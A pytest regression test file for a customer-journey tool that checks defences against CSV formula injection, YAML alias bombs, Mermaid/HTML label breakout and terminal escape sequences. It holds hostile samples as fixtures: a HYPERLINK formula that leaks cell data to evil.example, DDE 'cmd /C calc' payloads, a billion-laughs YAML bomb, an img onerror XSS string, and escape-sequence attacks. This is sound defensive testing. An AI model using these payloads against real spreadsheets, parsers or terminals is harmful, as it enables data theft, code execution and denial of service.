"""Issue 16, files and formats: CSV cells that cannot run as spreadsheet formulas (and still round-trip),
owner-only workspace files, a YAML alias bomb refused, and Mermaid labels that stay text."""

from __future__ import annotations

import csv
import io
import os
import stat
import time
from collections.abc import Callable
from pathlib import Path

import pyarrow as pa
import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

import touchlens
from tests.conftest import Result, write
from touchlens import console
from touchlens.csvsafe import safe_array, safe_cell, unescape_cell
from touchlens.errors import MapError
from touchlens.model.mapfile import parse_map
from touchlens.report.mermaid import mermaid
from touchlens.store import users as user_store
from touchlens.web.app import create_app
from touchlens.web.security import SESSION_COOKIE

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
# Every cell a spreadsheet could run, written the way the attacker plants it.
HOSTILE = (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx", "'=already quoted")

MAP = f"""
name: Shop
channels: [{{key: web, kind: digital}}]
journeys:
  - key: main
    stages: [{{key: buy, name: '{HYPERLINK.replace("'", "''")}'}}]
touchpoints:
  - key: order
    name: '{HYPERLINK.replace("'", "''")}'
    stage: buy
    channel: web
    owner: "@SUM(1)"
    description: "-2+3"
    expectations: "+cmd|' /C calc'!A0"
    annoyances: "'=already quoted"
    match: {{event: "@evil"}}
    targets: {{nps: -20, sentiment: -0.5}}
  - {{key: cart, name: "-3", stage: buy, channel: web, match: {{event: "-3"}}}}
  - {{key: ship, stage: buy, channel: web, match: {{event: "+shipped", where: {{plan: "=1+1", tier: "-x*"}}}}}}
"""
EVENTS = (
    "customer_id,ts,event,channel\n"
    f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",2024-01-01T00:00:00Z,@evil,web\n'
    "-42,2024-01-01T01:00:00Z,@evil,+web\n"
    "c3,2024-01-01T02:00:00Z,-3,web\n"
)


@pytest.fixture
def hostile_ws(cli: Callable[..., Result], tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    assert cli("init", ws).code == 0
    assert cli("-w", ws, "map", "import", write(tmp_path / "m.yaml", MAP)).code == 0
    result = cli("-w", ws, "ingest", "events", write(tmp_path / "e.csv", EVENTS))
    assert result.code == 0, result.err
    return ws


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _unsafe(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run: starting with = + - @ tab or CR (a plain number is no formula)."""
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# -- 1. formula-safe CSV ------------------------------------------------------------------------------------------


def test_regression_journeys_csv_export_cannot_plant_a_spreadsheet_formula(
    cli: Callable[..., Result], hostile_ws: Path
) -> None:
    result = cli("-w", hostile_ws, "export", "csv")
    assert result.code == 0, result.err
    rows = _rows(result.out)
    assert {r["customer_id"] for r in rows} == {"'" + HYPERLINK, "-42", "c3"}  # -42 is a number: left alone
    assert {r["event"] for r in rows} == {"'@evil", "-3"}
    assert "'+web" in {r["channel"] for r in rows}
    assert _unsafe(_cells(result.out)) == []


def test_raw_csv_writes_the_journeys_as_stored(cli: Callable[..., Result], hostile_ws: Path) -> None:
    result = cli("-w", hostile_ws, "export", "csv", "--raw-csv")
    assert result.code == 0, result.err
    rows = _rows(result.out)
    assert {r["customer_id"] for r in rows} == {HYPERLINK, "-42", "c3"}
    assert {r["event"] for r in rows} == {"@evil", "-3"}


def test_regression_map_csv_export_quotes_formulas_and_still_round_trips(
    cli: Callable[..., Result], hostile_ws: Path, tmp_path: Path
) -> None:
    before = cli("-w", hostile_ws, "map", "export", "--format", "yaml").out
    exported = cli("-w", hostile_ws, "map", "export", "--format", "csv")
    assert exported.code == 0, exported.err
    order = next(r for r in _rows(exported.out) if r["key"] == "order")
    assert order["name"] == "'" + HYPERLINK
    assert (order["owner"], order["description"]) == ("'@SUM(1)", "'-2+3")
    assert order["annoyances"] == "''=already quoted"  # one more quote, taken off again on import
    assert (order["target_nps"], order["target_sentiment"]) == ("-20.0", "-0.5")  # numbers stay numbers
    assert _unsafe(_cells(exported.out)) == []
    again = cli("-w", hostile_ws, "map", "import", write(tmp_path / "back.csv", exported.out))
    assert again.code == 0, again.err
    assert cli("-w", hostile_ws, "map", "export", "--format", "yaml").out == before


def test_raw_csv_writes_the_inventory_as_stored_and_only_for_csv(cli: Callable[..., Result], hostile_ws: Path) -> None:
    raw = cli("-w", hostile_ws, "map", "export", "--format", "csv", "--raw-csv")
    assert raw.code == 0, raw.err
    order = next(r for r in _rows(raw.out) if r["key"] == "order")
    assert (order["name"], order["owner"]) == (HYPERLINK, "@SUM(1)")
    refused = cli("-w", hostile_ws, "map", "export", "--format", "yaml", "--raw-csv")
    assert refused.code == 1
    assert "--raw-csv" in refused.err


def test_regression_csv_printed_by_commands_cannot_plant_a_formula(
    cli: Callable[..., Result], hostile_ws: Path
) -> None:
    result = cli("-w", hostile_ws, "touchpoints", "--csv")
    assert result.code == 0, result.err
    order = next(r for r in _rows(result.out) if r["key"] == "order")
    assert (order["name"], order["owner"]) == ("'" + HYPERLINK, "'@SUM(1)")
    assert next(r for r in _rows(result.out) if r["key"] == "cart")["name"] == "-3"


def test_printed_csv_keeps_numbers_as_numbers_and_raw_keeps_text(capsys: pytest.CaptureFixture[str]) -> None:
    records = [{"touchpoint": HYPERLINK, "lift": -3, "share": -0.25, "path": ["@a", "b"], "note": "-3"}]
    console.print_records(records)
    assert _rows(capsys.readouterr().out) == [
        {"touchpoint": "'" + HYPERLINK, "lift": "-3", "share": "-0.25", "path": "'@a > b", "note": "-3"}
    ]
    console.print_records(records, raw=True)
    assert _rows(capsys.readouterr().out)[0]["touchpoint"] == HYPERLINK


def test_regression_inventory_csv_download_cannot_plant_a_formula(hostile_ws: Path) -> None:
    app = create_app(hostile_ws)
    engine = app.state.web.ws.meta_engine()
    user_store.add_user(engine, "vera", "correct horse battery", "viewer")
    session, _ = user_store.start_session(engine, user_store.User("vera", "viewer"))
    client = TestClient(app, follow_redirects=False)
    client.cookies.set(SESSION_COOKIE, session)
    response = client.get("/inventory.csv")
    assert response.status_code == 200, response.text
    order = next(r for r in _rows(response.text) if r["key"] == "order")
    assert order["name"] == "'" + HYPERLINK
    assert _unsafe(_cells(response.text)) == []


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r1.eE x"), max_size=8) | st.text(max_size=12))
def test_a_quoted_cell_reads_back_as_written_and_arrow_quotes_alike(text: str) -> None:
    assert unescape_cell(safe_cell(text)) == text
    assert _unsafe([safe_cell(text)]) == []
    assert safe_array(pa.array([text, None])).to_pylist() == [safe_cell(text), None]


@pytest.mark.parametrize("cell", HOSTILE)
def test_every_formula_start_is_quoted_once_and_reads_back(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell
    assert unescape_cell(safe_cell(cell)) == cell


def test_numbers_are_never_quoted() -> None:
    assert [safe_cell(v) for v in (-3, -0.5, 2, None)] == [-3, -0.5, 2, None]
    assert [safe_cell(v) for v in ("-3", "+1.5e3", "-.5")] == ["-3", "+1.5e3", "-.5"]
    assert safe_array(pa.array([-3, 4])).to_pylist() == [-3, 4]


# -- 2. owner-only workspace files --------------------------------------------------------------------------------


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _open_to_others(root: Path) -> list[str]:
    return [f"{p.name} {_mode(p):o}" for p in (root, *root.iterdir()) if _mode(p) & 0o077]


@pytest.mark.slow
@pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")
def test_regression_workspace_files_and_backups_are_owner_only(
    cli: Callable[..., Result], hostile_ws: Path, tmp_path: Path
) -> None:
    assert _mode(hostile_ws) == 0o700  # nothing inside is reachable by others, whatever its own mode
    for name in ("touchlens.toml", "touchlens.db"):
        assert _mode(hostile_ws / name) == 0o600, name
    backup = tmp_path / "b.tar.gz"
    assert cli("-w", hostile_ws, "backup", backup).code == 0
    assert _mode(backup) == 0o600
    assert _mode(hostile_ws / "events.duckdb") == 0o600  # made by DuckDB, tightened when the workspace opens
    assert _open_to_others(hostile_ws) == []
    restored = tmp_path / "restored"
    assert cli("restore", backup, "--into", restored).code == 0
    assert _mode(restored) == 0o700
    assert _open_to_others(restored) == []


@pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")
def test_an_existing_workspace_is_tightened_when_opened(hostile_ws: Path) -> None:
    hostile_ws.chmod(0o755)
    for path in hostile_ws.iterdir():
        path.chmod(0o644)
    touchlens.open(hostile_ws)
    assert _open_to_others(hostile_ws) == []
    assert _mode(hostile_ws / "touchlens.toml") == 0o600  # the owner keeps read and write


# -- 3. YAML alias bomb -------------------------------------------------------------------------------------------

# "Billion laughs": nine levels of nine aliases, 9**9 (387 million) strings from about 400 bytes.
BOMB = 'name: bomb\na: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + "".join(
    f"{name}: &{name} [{','.join([f'*{prev}'] * 9)}]\n" for prev, name in zip("abcdefgh", "bcdefghi", strict=True)
)


def test_regression_yaml_alias_bomb_is_refused_quickly_naming_the_file(
    cli: Callable[..., Result], tmp_path: Path
) -> None:
    assert len(BOMB) < 460
    assert cli("init", tmp_path / "ws").code == 0
    started = time.perf_counter()
    result = cli("-w", tmp_path / "ws", "map", "import", write(tmp_path / "bomb.yaml", BOMB))
    assert time.perf_counter() - started < 30  # generous: unbounded, it runs for minutes and fills the memory
    assert result.code == 1
    assert "bomb.yaml" in result.err
    assert "alias" in result.err


def test_a_map_with_a_few_aliases_still_loads() -> None:
    text = """
name: Shop
channels: [{key: web}]
touchpoints:
  - {key: a, channel: web, targets: &t {csat: 0.8, nps: 20}, desired: &d {feel: calm, do: pay}}
  - {key: b, channel: web, targets: *t, desired: *d}
"""
    m = parse_map(text, "shop.yaml")
    assert m.touchpoints[1].targets == m.touchpoints[0].targets
    assert m.touchpoints[1].desired == m.touchpoints[0].desired


def test_an_alias_bomb_is_a_map_error_with_the_file_and_line() -> None:
    with pytest.raises(MapError) as caught:
        parse_map(BOMB, "bomb.yaml")
    (problem,) = caught.value.problems
    assert (problem.file, problem.line) == ("bomb.yaml", 1)
    assert "alias" in problem.message


# -- 4. Mermaid labels are text -----------------------------------------------------------------------------------

BREAKOUT = '"]-->X[`{x}`'
IMG = "<img src=x onerror=alert(1)>"


def test_regression_mermaid_labels_carry_no_html_and_cannot_break_out() -> None:
    m = parse_map(
        f"""
name: '{IMG} &lt; Acme & Sons'
channels: [{{key: web, name: '{BREAKOUT}'}}]
journeys: [{{key: j, stages: [{{key: s, name: '{IMG}'}}]}}]
touchpoints:
  - {{key: t, stage: s, channel: web, name: '{IMG}'}}
  - {{key: u, stage: s, channel: web, name: '{BREAKOUT}'}}
""",
        "m.yaml",
    )
    text = mermaid(m)
    assert not set("<>\"'`[]{}") & set(text)
    assert "    title #lt;img src=x onerror=alert(1)#gt; #amp;lt Acme & Sons" in text.splitlines()
    assert "      #lt;img src=x onerror=alert(1)#gt;: 3: #quot;#93;--#gt;X#91;#96;#123;x#125;#96;" in text.splitlines()
    assert "      #quot;#93;--#gt;X#91;#96;#123;x#125;#96;: 3: #quot;#93;--#gt;X#91;#96;#123;x#125;#96;" in text


def test_regression_funnel_dropped_at_writes_customer_ids_formula_safe(
    cli: Callable[..., Result], journeys_for: Callable[..., touchlens.Workspace]
) -> None:
    """The red team's finding: `--dropped-at` wrote ids as sent (by a public write key), unquoted and unescaped."""
    ws = journeys_for({"=cmd|' /C calc'!A0": ["home", "x"], "@SUM(1)": ["home"], "ann": ["home", "cart"]}).root
    result = cli("-w", ws, "analyze", "funnel", "--steps", "home,cart", "--dropped-at", "1")
    assert result.code == 0, result.err
    assert sorted(r["customer_id"] for r in _rows(result.out)) == ["'=cmd|' /C calc'!A0", "'@SUM(1)"]


TERMINAL_ATTACK = "ann\x1b]0;owned\x07\x1b[2J\r\nfake line\u202e[bold]x[/bold]"


def test_regression_a_name_tried_at_sign_in_cannot_drive_the_admins_terminal(
    cli: Callable[..., Result], tmp_path: Path
) -> None:
    """The red team's finding: a failed sign-in (no credentials needed) recorded the name as typed, and
    `touchlens audit` printed its escape sequences raw: a cleared screen, a new title, a fake second row."""
    ws = touchlens.init(tmp_path / "ws")
    app = create_app(ws.root)
    client = TestClient(app, follow_redirects=False)
    client.get("/login")
    form = {"name": TERMINAL_ATTACK, "password": "wrong password", "csrf": client.cookies.get("touchlens_login_csrf")}
    assert client.post("/login", data=form).status_code == 303
    shown = cli("-w", ws.root, "audit")
    assert shown.code == 0, shown.err
    assert "sign-in-failed" in shown.out
    assert not {"\x1b", "\x07", "\r", "\u202e"} & set(shown.out)
    assert "\\x1b]0;owned" in shown.out  # shown, inert
    assert "fake line" in shown.out
    assert "[bold]x[/bold]" in shown.out  # markup printed as text, not applied


def test_every_table_cell_is_inert_text() -> None:
    buf = io.StringIO()
    console.Console(file=buf, force_terminal=True, width=200).print(
        console.records_table("t", [{"a": TERMINAL_ATTACK, "b": [TERMINAL_ATTACK]}], ["a", "b"])
    )
    shown = buf.getvalue()
    assert not [bad for bad in ("\x07", "\u202e", "\x1b]0", "\x1b[2J") if bad in shown]


def test_a_yaml_key_that_is_a_list_is_a_map_error_not_a_crash() -> None:
    with pytest.raises(MapError, match=r"m\.yaml:2: .*unknown field"):
        parse_map("name: x\n? [a]\n: 1\n", "m.yaml")
